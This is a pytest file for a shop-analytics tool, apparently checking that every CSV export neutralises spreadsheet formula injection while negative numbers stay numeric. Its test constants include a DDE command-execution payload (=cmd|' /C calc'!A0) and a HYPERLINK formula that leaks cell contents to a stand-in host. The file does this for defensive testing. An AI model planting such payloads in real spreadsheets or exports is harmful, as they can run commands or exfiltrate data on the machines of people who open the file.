"""CSV output never holds a spreadsheet formula (DESIGN §5): text starting with = + - @ (or a tab / CR)
gets a leading apostrophe in every CSV we write — `table master`, `findings`, `rival …`, the web
download — while numbers, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path

import polars as pl
import pytest
from fastapi.testclient import TestClient

from shopops.demo.rivals import rival_snapshots, write_snapshots
from shopops.domains.rivals.analysis import add_rival_item
from shopops.reports.csv_cells import csv_text, safe_cell
from shopops.reports.export import to_csv
from shopops.web import accounts
from shopops.web.app import create_app
from shopops.workspace import Workspace
from tests.conftest import run_cli

CMD = "=cmd|' /C calc'!A0"
AT = "@x"
MINUS = "-1+1"
SHOPS = (CMD, AT, MINUS)  # shop names may not hold a comma, so +SUM(1,2) is a title below
PLUS = "+SUM(1,2)"
HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"点我")'
FIRST, LAST = dt.date(2026, 11, 1), dt.date(2026, 11, 3)
RIVAL_START = dt.date(2026, 11, 1)
PASSWORD = "correct-horse-1"


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


@pytest.fixture
def workspace(tmp_path: Path) -> Iterator[Workspace]:
    """Three shops whose names would be formulas; each day ¥100.00 paid and ¥112.50 refunded, so
    净销售额 is -12.50; rival snapshots whose shop and titles would be formulas, with a price cut."""
    ws = Workspace.init(tmp_path / "ws")
    for number, shop in enumerate(SHOPS):
        ws.add_shop(shop, "tmall")
        lines = ["统计日期,访客数,支付金额,成功退款金额"]
        day = FIRST
        while day <= LAST:
            lines.append(f"{day},100,100.00,112.50")
            day += dt.timedelta(days=1)
        path = tmp_path / f"shop{number}.csv"
        path.write_text("\n".join(lines) + "\n", encoding="utf-8")
        assert ws.import_file(path, shop=shop).rows == 3
    frame, _ = rival_snapshots(items=3, days=14, start=RIVAL_START, shops=1)
    frame = frame.with_columns(pl.lit(HYPERLINK).alias("rival_shop"), pl.lit(PLUS).alias("title"))
    assert ws.import_file(write_snapshots(frame, tmp_path / "竞品快照.csv")).rows > 0
    add_rival_item(ws.connection, HYPERLINK, "R600000", title=PLUS, group="@组")
    yield ws
    ws.close()


def test_a_cell_that_would_start_a_formula_gets_an_apostrophe() -> None:
    assert [safe_cell(v) for v in (CMD, PLUS, AT, MINUS, "\t=1", "\r=1", "-abc", "=1+1")] == [
        "'" + CMD,
        "'+SUM(1,2)",
        "'@x",
        "'-1+1",
        "'\t=1",
        "'\r=1",
        "'-abc",
        "'=1+1",
    ]
    # Numbers stay numbers, as numbers or as text; ordinary text is unchanged.
    assert [safe_cell(v) for v in ("-12.50", "+3", "-1,234.5", "-3.5%", "1e-3", "云朵旗舰店", "a=b", "")] == [
        "-12.50",
        "+3",
        "-1,234.5",
        "-3.5%",
        "1e-3",
        "云朵旗舰店",
        "a=b",
        "",
    ]
    assert [safe_cell(v) for v in (-12.5, Decimal("-12.50"), -3, None)] == [
        -12.5,
        Decimal("-12.50"),
        -3,
        None,
    ]


def test_frames_and_records_are_written_safely() -> None:
    frame = pl.DataFrame(
        {"shop": [CMD, "云朵", None], "amount": [-12.5, 3.0, None], "=bad": ["-12.50", "@x", "ok"]}
    )
    assert to_csv(frame) == ("shop,amount,'=bad\n'=cmd|' /C calc'!A0,-12.5,-12.50\n云朵,3.0,'@x\n,,ok\n")
    records = [{"sku": PLUS, "price": Decimal("-12.50"), "note": None}, {"sku": "A1", "price": 3, "note": AT}]
    assert csv_text(records) == "sku,price,note\n\"'+SUM(1,2)\",-12.50,\nA1,3,'@x\n"
    assert csv_text([]) == ""


def test_table_master_csv_neutralises_shop_names_and_keeps_negative_money(workspace: Workspace) -> None:
    root = workspace.root
    workspace.close()
    result = run_cli(
        "--workspace", root, "table", "master", "--from", str(FIRST), "--to", str(LAST), "--format", "csv"
    )
    assert result.exit_code == 0, result.output
    rows = rows_of(result.output)
    assert sorted({r["shop"] for r in rows}) == sorted("'" + shop for shop in SHOPS)
    assert {r["net_sales"] for r in rows} == {"-12.50"}
    assert {r["gmv"] for r in rows} == {"100.00"}
    # With 中文 labels and a 合计 row the same holds.
    labelled = run_cli(
        "--workspace", root, "table", "master", "--from", str(LAST), "--to", str(LAST),
        "--format", "csv", "--labels", "zh", "--total",
    )  # fmt: skip
    assert labelled.exit_code == 0, labelled.output
    shops = [r["店铺"] for r in rows_of(labelled.output)]
    assert sorted(shops) == sorted(["'" + shop for shop in SHOPS] + ["合计"])


def test_rival_and_findings_csv_neutralise_rival_shops_and_titles(workspace: Workspace) -> None:
    root = workspace.root
    workspace.close()
    window = ("--from", str(RIVAL_START), "--to", str(RIVAL_START + dt.timedelta(days=13)))
    changes = run_cli("--workspace", root, "rival", "changes", *window, "--format", "csv")
    assert changes.exit_code == 0, changes.output
    rows = rows_of(changes.output)
    assert rows, changes.output
    assert {r["shop"] for r in rows} == {"'" + HYPERLINK}
    assert any(float(r["change"]) < 0 for r in rows)  # the price cut: a negative number, as is
    assert all(not r["change"].startswith("'") for r in rows)
    new = run_cli("--workspace", root, "rival", "new", *window, "--format", "csv")
    assert new.exit_code == 0, new.output
    titles = {r["title"] for r in rows_of(new.output)}
    assert titles == {"'" + PLUS}
    findings = run_cli("--workspace", root, "findings", *window, "--format", "csv")
    assert findings.exit_code == 0, findings.output
    found = rows_of(findings.stdout)  # checks that could not run go to stderr
    assert found, findings.output
    for row in found:
        for column, value in row.items():
            assert not value or value[0] not in "=+@\t\r" or value.startswith("'"), (column, value)
            if value.startswith("-"):
                float(value)  # only numbers may start with a minus
    assert "'" + HYPERLINK in {r["shop"] for r in found}


def test_web_csv_download_neutralises_shop_names(workspace: Workspace) -> None:
    accounts.add_user(workspace.connection, "admin", PASSWORD, "admin", None)
    token = accounts.create_token(workspace.connection, "admin")
    client = TestClient(create_app(workspace), headers={"Authorization": f"Bearer {token}"})
    response = client.get(
        "/table/download", params={"format": "csv", "from": str(FIRST), "to": str(LAST), "grain": "day"}
    )
    assert response.status_code == 200
    rows = rows_of(response.content.decode("utf-8"))
    assert {r["shop"] for r in rows} == {"'" + shop for shop in SHOPS} | {"合计"}
    assert {r["net_sales"] for r in rows if r["shop"] != "合计"} == {"-12.50"}
    assert {r["net_sales"] for r in rows if r["shop"] == "合计"} == {"-37.50"}


def test_targets_csv_neutralises_the_shop_scope(workspace: Workspace) -> None:
    """`targets pace --format csv` (written by csv_text, like the JD views): the scope is the shop name."""
    root = workspace.root
    workspace.close()
    target = run_cli(
        "--workspace", root, "targets", "set", "-p", "2026-11", "-m", "gmv", "-v", "10000", "-s", CMD
    )
    assert target.exit_code == 0, target.output
    pace = run_cli("--workspace", root, "targets", "pace", "--date", str(LAST), "--format", "csv")
    assert pace.exit_code == 0, pace.output
    rows = rows_of(pace.output)
    assert [(r["scope"], r["metric"], r["target"], r["achieved"]) for r in rows] == [
        ("'" + CMD, "gmv", "10000.00", "300.00")
    ]
    # 3% done after 10% of the month: progress_gap is a negative number, written as one.
    assert rows[0]["progress_gap"] == "-0.07"
